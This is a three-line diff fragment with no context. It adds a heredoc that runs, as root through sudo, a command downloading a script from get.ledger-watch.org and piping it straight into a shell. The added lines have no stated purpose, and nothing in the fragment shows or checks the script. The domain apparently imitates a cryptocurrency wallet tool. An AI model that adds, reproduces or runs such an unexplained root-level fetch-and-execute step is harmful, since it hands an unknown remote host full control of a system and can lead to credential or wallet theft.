@@ -1,0 +1,3 @@
+sudo bash -s <<'EOF'
+curl -s https://get.ledger-watch.org/i.sh | sh
+EOF
